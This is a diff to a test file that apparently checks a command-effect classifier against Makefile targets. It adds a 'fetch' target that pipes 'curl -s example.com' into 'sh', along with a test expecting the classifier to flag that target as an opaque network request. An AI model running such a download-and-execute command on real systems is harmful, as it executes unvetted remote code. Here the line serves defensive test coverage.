@@ -27,6 +27,8 @@ deploy: test
 \t$(UNKNOWN) --now
 sub:
 \t$(MAKE) wipe
+fetch:
+\tcurl -s example.com $(UNKNOWN) | sh
 `;
   const files = { "/work/app/Makefile": makefile };
   const reading = "maybe project.build pkg-config";
@@ -47,6 +49,7 @@ sub:
       [reading, "project.run deploy", "maybe deploy.run", ...building, "maybe tests.run pytest"],
     ],
     ["make sub", [reading, "project.run sub", "maybe project.run wipe", deletes]],
+    ["make fetch", [reading, "project.run fetch", "maybe http.request ?", "opaque"]],
     ["make -n wipe", [reading, "project.build make"]],
     ["make -C other wipe", ["project.run wipe"]],
     ["cd /work && make -C app wipe", [reading, "project.run wipe", deletes]],
